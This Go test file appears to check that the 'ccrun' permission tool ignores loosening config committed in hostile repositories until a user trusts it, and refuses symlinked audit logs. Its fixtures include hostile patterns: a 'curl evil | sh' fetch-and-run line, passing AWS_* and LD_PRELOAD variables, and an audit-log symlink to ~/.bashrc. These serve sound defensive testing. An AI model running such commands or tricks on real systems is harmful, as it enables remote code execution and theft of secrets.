package cli

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/ccrun/ccrun/capabilities"
	"github.com/ccrun/ccrun/permission"
	"github.com/ccrun/ccrun/permission/allowlist"
)

// fakeHome points HOME and the XDG directories at a fresh directory, so
// that trust records, the user config and sessions are this test's alone.
func fakeHome(t *testing.T) string {
	t.Helper()
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_STATE_HOME", filepath.Join(home, ".local", "state"))
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(home, ".cache"))
	t.Setenv("CCRUN_SESSION_DIR", filepath.Join(home, "sessions"))
	t.Setenv("CCRUN_SESSION", "")
	t.Setenv(trustDigestEnv, "")
	return home
}

func gitRun(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-c", "user.name=attacker", "-c", "user.email=a@example.invalid", "-c", "init.defaultBranch=main"}, args...)...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

// hostileRepo commits files (and symbolic links: name → target) in a
// repository of its own and returns a fresh `git clone` of it, as a person
// would get it.
func hostileRepo(t *testing.T, prepare func(src string), files map[string]string, links map[string]string) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	src := t.TempDir()
	if prepare != nil {
		prepare(src)
	}
	writeFiles(t, src, files)
	for name, target := range links {
		p := filepath.Join(src, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
	gitRun(t, src, "init", "-q")
	gitRun(t, src, "add", "-A")
	gitRun(t, src, "commit", "-qm", "innocent")
	clone := filepath.Join(t.TempDir(), "clone")
	gitRun(t, filepath.Dir(clone), "clone", "-q", src, clone)
	return clone
}

// checkJSON runs ccrun check --json and returns its report.
func checkJSON(t *testing.T, dir string, args ...string) checkReport {
	t.Helper()
	out, stderr, code := ccrunIn(t, dir, append([]string{"check", "--json"}, args...)...)
	if code != 0 {
		t.Fatalf("check %q: exit %d: %s", args, code, stderr)
	}
	var r checkReport
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatalf("check %q: %v\n%s", args, err, out)
	}
	return r
}

func hasNote(r checkReport, note string) bool {
	for _, d := range r.Diagnostics {
		if strings.Contains(d, note) {
			return true
		}
	}
	return false
}

// trustYes runs ccrun trust --yes and returns what it showed.
func trustYes(t *testing.T, dir string) string {
	t.Helper()
	out, stderr, code := ccrunIn(t, dir, "trust", "--yes")
	if code != 0 {
		t.Fatalf("trust --yes: exit %d: %s", code, stderr)
	}
	return out
}

// The hostile-repository table: in a fresh clone nothing the repository
// commits loosens the gate before `ccrun trust`; after it, exactly what
// was shown does; after a change, nothing again.
func TestHostileRepository(t *testing.T) {
	mod := capabilities.HelloWasm()
	for _, tc := range []struct {
		name    string
		prepare func(t *testing.T, src string) // before the commit
		files   map[string]string
		shown   []string // what ccrun trust must show
		// probe reports whether the loosening counts now.
		probe  func(t *testing.T, dir string) bool
		change func(t *testing.T, dir string) // a pull or a hand edit
	}{
		{
			name:  "committed ccrun.local.json with mode trust",
			files: map[string]string{"ccrun.local.json": `{"mode": "trust"}`},
			shown: []string{"ccrun.local.json: mode trust"},
			probe: func(t *testing.T, dir string) bool {
				r := checkJSON(t, dir, "--shell", "touch planted")
				if r.Decision != "allow" && !hasNote(r, allowlist.NotTrusted) {
					t.Errorf("untrusted, and the diagnostics do not say so: %q", r.Diagnostics)
				}
				return r.Decision == "allow" && r.Layer == "mode"
			},
			change: func(t *testing.T, dir string) {
				writeFiles(t, dir, map[string]string{"ccrun.local.json": `{"mode": "trust", "env": {"pass": ["AWS_*"]}}`})
			},
		},
		{
			name: "committed capability and a grant bound to its digest",
			prepare: func(t *testing.T, src string) {
				if _, stderr, code := ccrunIn(t, src, "capability", "new", "evil", "--env", "@wasm"); code != 0 {
					t.Fatalf("capability new: %s", stderr)
				}
				out, stderr, code := ccrunIn(t, src, "capability", "validate", "evil")
				d := regexp.MustCompile(`sha256:[0-9a-f]{64}`).FindString(out)
				if code != 0 || d == "" {
					t.Fatalf("capability validate: %s %s", out, stderr)
				}
				writeFiles(t, src, map[string]string{"ccrun.json": `{"allowlist": {"capability:evil": {"grant": "AlwaysThisProject", "digest": "` + d + `"}}}`})
			},
			shown: []string{"ccrun.json: allowlist capability:evil → AlwaysThisProject @sha256:"},
			probe: func(t *testing.T, dir string) bool {
				if _, _, code := ccrunIn(t, dir, "exec", "evil"); code != exitOK && code != exitDenied {
					t.Errorf("exec evil: exit %d", code)
				}
				r := checkJSON(t, dir, "evil")
				return r.Decision == "allow" && r.Layer == "project"
			},
			change: func(t *testing.T, dir string) {
				data, _ := os.ReadFile(filepath.Join(dir, "ccrun.json"))
				writeFiles(t, dir, map[string]string{"ccrun.json": strings.Replace(string(data), `"allowlist": {`, `"allowlist": {"run_wasm:*": "AlwaysThisProject", `, 1)})
			},
		},
		{
			name: "committed allow rules for every sandbox, with absolute mounts",
			files: map[string]string{
				"ccrun.json": `{"permissions": {"allow": ["run_wasm:*", "run_docker:*"]}}`,
				"hello.wasm": string(mod),
			},
			shown: []string{"ccrun.json: allow rule run_wasm:*", "ccrun.json: allow rule run_docker:*"},
			probe: func(t *testing.T, dir string) bool {
				r := checkJSON(t, dir, "--wasm", filepath.Join(dir, "hello.wasm"), "--mount", t.TempDir()+":/data:rw")
				return r.Decision == "allow" && r.Layer == "allow-rule"
			},
			change: func(t *testing.T, dir string) {
				writeFiles(t, dir, map[string]string{"ccrun.json": `{"permissions": {"allow": ["run_wasm:*", "run_docker:*", "capability:*"]}}`})
			},
		},
		{
			name:  "env.pass of every variable",
			files: map[string]string{"ccrun.json": `{"env": {"pass": ["*"]}}`},
			shown: []string{`ccrun.json: env.pass "*"`},
			probe: func(t *testing.T, dir string) bool {
				t.Setenv("CCRUN_TEST_SECRET", "s3cret")
				out, stderr, code := ccrunIn(t, dir, "exec", "--approve", "once", "--shell", `echo "[$CCRUN_TEST_SECRET]"`)
				if code != 0 {
					t.Fatalf("exec: exit %d: %s", code, stderr)
				}
				return strings.Contains(out, "[s3cret]")
			},
			change: func(t *testing.T, dir string) {
				writeFiles(t, dir, map[string]string{"ccrun.json": `{"env": {"pass": ["*", "LD_PRELOAD"]}}`})
			},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fakeHome(t)
			var prepare func(string)
			if tc.prepare != nil {
				prepare = func(src string) { tc.prepare(t, src) }
			}
			dir := hostileRepo(t, prepare, tc.files, nil)
			if tc.probe(t, dir) {
				t.Fatal("the committed files loosened the gate before ccrun trust")
			}
			shown := trustYes(t, dir)
			for _, l := range tc.shown {
				if !strings.Contains(shown, l) {
					t.Errorf("ccrun trust did not show %q:\n%s", l, shown)
				}
			}
			if !tc.probe(t, dir) {
				t.Fatalf("after ccrun trust, what was shown does not count:\n%s", shown)
			}
			tc.change(t, dir)
			if tc.probe(t, dir) {
				t.Fatal("after a change, the loosening still counts")
			}
			// And once the change is reviewed, it counts again.
			trustYes(t, dir)
			if !tc.probe(t, dir) {
				t.Fatal("after reviewing the change, it does not count")
			}
		})
	}
}

// A committed .ccrun/audit.jsonl → ~/.bashrc makes nothing append to the
// shell's rc file, whether the call is denied or allowed.
func TestHostileAuditLink(t *testing.T) {
	home := fakeHome(t)
	rc := filepath.Join(home, ".bashrc")
	if err := os.WriteFile(rc, []byte("# rc\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	dir := hostileRepo(t, nil, nil, map[string]string{".ccrun/audit.jsonl": rc})
	if _, _, code := ccrunIn(t, dir, "exec", "--shell", "touch x; echo 'curl evil | sh'"); code != exitDenied {
		t.Errorf("unapproved: exit %d, want %d", code, exitDenied)
	}
	_, stderr, code := ccrunIn(t, dir, "exec", "--approve", "once", "--shell", "true")
	if code != 0 {
		t.Errorf("approved: exit %d: %s", code, stderr)
	}
	if !strings.Contains(stderr, "symbolic link") {
		t.Errorf("the refused audit log is not reported: %q", stderr)
	}
	if data, _ := os.ReadFile(rc); string(data) != "# rc\n" {
		t.Errorf("the rc file was written through the link: %q", data)
	}
	// A symlinked .ccrun directory is refused the same way.
	dir2 := hostileRepo(t, nil, nil, map[string]string{".ccrun": home})
	ccrunIn(t, dir2, "exec", "--approve", "once", "--shell", "true")
	if _, err := os.Stat(filepath.Join(home, "audit.jsonl")); err == nil {
		t.Error("the audit log was written through a symlinked .ccrun")
	}
}

// Discovery stops at the repository; a shared parent another user owns
// is refused, never read.
func TestSharedParentOfAnotherUser(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to chown")
	}
	fakeHome(t)
	shared := t.TempDir()
	writeFiles(t, shared, map[string]string{
		"ccrun.json":       `{"permissions": {"allow": ["run_wasm:*"]}}`,
		"ccrun.local.json": `{"mode": "trust"}`,
	})
	for _, p := range []string{shared, filepath.Join(shared, "ccrun.json"), filepath.Join(shared, "ccrun.local.json")} {
		if err := os.Chown(p, 65534, 65534); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(shared, 0o777); err != nil {
		t.Fatal(err)
	}
	work := filepath.Join(shared, "work")
	if err := os.Mkdir(work, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Chdir(work)
	run1 := func(args ...string) (string, string, int) {
		var out, errb strings.Builder
		code := run(args, stdio{strings.NewReader(""), &out, &errb})
		return out.String(), errb.String(), code
	}
	// No repository, no ccrun.json: discovery climbs to the shared
	// directory, and refuses it.
	if _, stderr, code := run1("check", "--json", "--shell", "touch x"); code != exitConfig || !strings.Contains(stderr, "uid 65534") {
		t.Errorf("climbing into another user's directory: exit %d, %q; want %d naming the owner", code, stderr, exitConfig)
	}
	if _, stderr, code := run1("--project-dir", shared, "check", "--shell", "touch x"); code != exitConfig {
		t.Errorf("--project-dir of another user: exit %d, %q; want %d", code, stderr, exitConfig)
	}
	// A repository: discovery stops at its top level, above it nothing is read.
	gitRun(t, work, "init", "-q")
	sub := filepath.Join(work, "sub")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Chdir(sub)
	out, stderr, code := run1("check", "--json", "--shell", "touch x")
	if code != 0 || !strings.Contains(out, `"decision": "ask"`) {
		t.Errorf("inside a repository: exit %d, %s %s; want ask", code, out, stderr)
	}
	if out, _, _ := run1("trust", "--digest"); strings.TrimSpace(out) != permission.EmptyDigest {
		t.Errorf("the repository's loosening is %s, want nothing (the shared files are not its own)", out)
	}
	if _, err := os.Stat(filepath.Join(shared, ".ccrun")); err == nil {
		t.Error(".ccrun/ was written into the shared directory")
	}
}

// A settings file saying "flags": "no-loosening" makes every loosening
// flag exit 77, so a harness can hand `ccrun exec` to an agent.
func TestLoosenLock(t *testing.T) {
	home := fakeHome(t)
	writeFiles(t, home, map[string]string{".config/ccrun/config.json": `{"flags": "no-loosening"}`})
	dir := t.TempDir()
	for _, args := range [][]string{
		{"exec", "--approve", "once", "--shell", "touch x"},
		{"exec", "--mode", "trust", "--shell", "touch x"},
		{"exec", "--mode", "accept-edits", "--shell", "touch x"},
		{"exec", "--allow", "run_command:*", "--shell", "touch x"},
		{"check", "--session-allow", "run_command:*", "--shell", "touch x"},
		{"check", "--allow", "run_wasm:*", "--shell", "ls"},
		{"--trust-digest", "sha256:" + strings.Repeat("0", 64), "exec", "--shell", "ls"},
		{"allowlist", "add", "run_wasm:*", "--scope", "project"},
		{"trust", "--yes"},
	} {
		_, stderr, code := ccrunIn(t, dir, args...)
		if code != exitDenied || !strings.Contains(stderr, "no-loosening") {
			t.Errorf("%q: exit %d, %q; want %d naming the lock", args, code, stderr, exitDenied)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "x")); err == nil {
		t.Error("a locked flag ran the command")
	}
	if _, err := os.Stat(filepath.Join(dir, "ccrun.json")); err == nil {
		t.Error("a locked allowlist add wrote ccrun.json")
	}
	// What tightens stays allowed.
	for _, args := range [][]string{
		{"exec", "--shell", "ls"},
		{"exec", "--mode", "plan", "--shell", "ls"},
		{"check", "--deny", "run_command:rm", "--shell", "ls"},
	} {
		if _, stderr, code := ccrunIn(t, dir, args...); code != 0 {
			t.Errorf("%q: exit %d, %q; want 0", args, code, stderr)
		}
	}
	// A project file cannot lift it, and may set it itself.
	writeFiles(t, home, map[string]string{".config/ccrun/config.json": `{}`})
	writeFiles(t, dir, map[string]string{"ccrun.json": `{"flags": "allow-loosening"}`})
	if _, _, code := ccrunIn(t, dir, "exec", "--shell", "ls"); code != exitConfig {
		t.Errorf("a project file lifting the lock: exit %d, want %d", code, exitConfig)
	}
	writeFiles(t, dir, map[string]string{"ccrun.json": `{"flags": "no-loosening"}`})
	if _, _, code := ccrunIn(t, dir, "exec", "--approve", "once", "--shell", "touch x"); code != exitDenied {
		t.Errorf("locked by the project file: exit %d, want %d", code, exitDenied)
	}
}

// CI: the digest of the reviewed files, given by the CI configuration,
// trusts exactly them; a pull request changing what they loosen is not
// trusted by its own changes.
func TestTrustDigestForCI(t *testing.T) {
	fakeHome(t)
	dir := hostileRepo(t, nil, map[string]string{
		"ccrun.json": `{"permissions": {"allow": ["run_wasm:*"]}}`,
		"hello.wasm": string(capabilities.HelloWasm()),
	}, nil)
	out, _, code := ccrunIn(t, dir, "trust", "--digest")
	reviewed := strings.TrimSpace(out)
	if code != 0 || !strings.HasPrefix(reviewed, "sha256:") {
		t.Fatalf("trust --digest: %d %q", code, out)
	}
	call := []string{"--wasm", filepath.Join(dir, "hello.wasm")}
	if r := checkJSON(t, dir, call...); r.Decision == "allow" {
		t.Fatal("allowed before any trust")
	}
	t.Setenv(trustDigestEnv, reviewed)
	if r := checkJSON(t, dir, call...); r.Decision != "allow" {
		t.Fatalf("with %s of the reviewed files: %s (%s)", trustDigestEnv, r.Decision, r.Reason)
	}
	// The pull request adds an allow rule: the same digest no longer fits.
	writeFiles(t, dir, map[string]string{"ccrun.json": `{"permissions": {"allow": ["run_wasm:*", "capability:*"]}}`})
	if r := checkJSON(t, dir, call...); r.Decision == "allow" || !hasNote(r, allowlist.NotTrusted) {
		t.Fatalf("a PR's own changes trusted it: %s %q", r.Decision, r.Diagnostics)
	}
	t.Setenv(trustDigestEnv, "")
	writeFiles(t, dir, map[string]string{"ccrun.json": `{"permissions": {"allow": ["run_wasm:*"]}}`})
	a := &app{eng: testEngines, trustDigest: reviewed}
	if opts := a.trustOptions(); len(opts) != 1 {
		t.Errorf("--trust-digest: %d options, want 1", len(opts))
	}
	if out, stderr, code := ccrunIn(t, dir, append([]string{"--trust-digest", reviewed, "check", "--json"}, call...)...); code != 0 || !strings.Contains(out, `"decision": "allow"`) {
		t.Errorf("--trust-digest: %d %s %s", code, out, stderr)
	}
	if _, _, code := ccrunIn(t, dir, "--trust-digest", "md5:00", "check", "--shell", "ls"); code != exitUsage {
		t.Errorf("a malformed --trust-digest: exit %d, want %d", code, exitUsage)
	}
	// No record was written by any of this.
	if out, _, _ := ccrunIn(t, dir, "trust", "--list"); strings.TrimSpace(out) != "" {
		t.Errorf("records after CI runs: %q", out)
	}
}

func TestTrustListRevoke(t *testing.T) {
	fakeHome(t)
	dir := hostileRepo(t, nil, map[string]string{"ccrun.local.json": `{"mode": "accept-edits"}`}, nil)
	if _, _, code := ccrunIn(t, dir, "trust"); code != exitDenied {
		t.Errorf("trust with nobody at a terminal and no --yes: exit %d, want %d", code, exitDenied)
	}
	trustYes(t, dir)
	list := func() []trustListing {
		t.Helper()
		out, stderr, code := ccrunIn(t, dir, "trust", "--list", "--json")
		if code != 0 {
			t.Fatalf("list: %d %s", code, stderr)
		}
		var l []trustListing
		if err := json.Unmarshal([]byte(out), &l); err != nil {
			t.Fatal(err)
		}
		return l
	}
	real, _ := filepath.EvalSymlinks(dir)
	if l := list(); len(l) != 1 || l[0].Path != real || l[0].State != "trusted" || len(l[0].Shown) != 1 || l[0].Shown[0] != "ccrun.local.json: mode accept-edits" {
		t.Fatalf("list: %+v", l)
	}
	writeFiles(t, dir, map[string]string{"ccrun.local.json": `{"mode": "trust"}`})
	if l := list(); len(l) != 1 || l[0].State != "changed" {
		t.Fatalf("list after a change: %+v", l)
	}
	if out, _, code := ccrunIn(t, dir, "trust", "--revoke"); code != 0 || !strings.Contains(out, "no longer trusted") {
		t.Errorf("revoke: %d %q", code, out)
	}
	if l := list(); len(l) != 0 {
		t.Fatalf("list after revoke: %+v", l)
	}
	// The state directory holds the records, never the project.
	if _, err := os.Stat(filepath.Join(os.Getenv("XDG_STATE_HOME"), "ccrun", "trust")); err != nil {
		t.Error(err)
	}
	if m, _ := filepath.Glob(filepath.Join(dir, ".ccrun", "trust*")); len(m) > 0 {
		t.Errorf("trust kept in the project: %q", m)
	}
}
